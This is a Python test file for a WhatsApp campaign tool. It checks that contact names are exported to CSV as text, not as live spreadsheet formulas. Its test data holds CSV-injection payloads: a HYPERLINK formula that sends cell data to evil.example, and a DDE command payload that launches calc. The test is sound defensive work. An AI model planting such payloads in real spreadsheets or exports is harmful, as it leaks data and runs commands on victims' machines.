"""Attack: a customer names their WhatsApp profile ``=1+HYPERLINK(...)``; the agent opens
the campaign export in Excel. The cell must arrive as text, not as a formula."""

from __future__ import annotations

import csv
import io

import sqlalchemy as sa
from campaign_helpers import add_contacts, make_list

from clickpro.extensions import db
from clickpro.models import Campaign, Contact

EVIL = '=1+HYPERLINK("https://evil.example/?x="&A2,"Clique")'


def test_campaign_export_neutralizes_formulas(setup, login_as):
    web = login_as(setup.tenant.admin, setup.tenant)
    ids = add_contacts(setup.tenant, 3)
    names = [EVIL, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]
    for contact_id, name in zip(ids, names, strict=True):
        db.session.get(Contact, contact_id).name = name
    db.session.commit()
    lst = make_list(setup.tenant, ids)
    form = {"name": "Natal", "template_id": str(setup.template.id), "list_ids": [str(lst.id)],
            "var-body-0": "{{contact.name}}", "var-body-1": "{{contact.cupom}}",
            "missing_value_policy": "skip", "start_mode": "now", "rate_mps": "40"}  # fmt: skip
    assert web.post("/campaigns/new", data=form).status_code == 302
    campaign = db.session.scalar(sa.select(Campaign))
    assert web.post(f"/campaigns/{campaign.id}/start").status_code == 302
    text = web.get(f"/campaigns/{campaign.id}/export.csv").get_data().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))[1:]
    assert sorted(r[1] for r in rows) == sorted("'" + n for n in names)
    assert all(r[0].startswith("+55") for r in rows)  # phones stay plain numbers
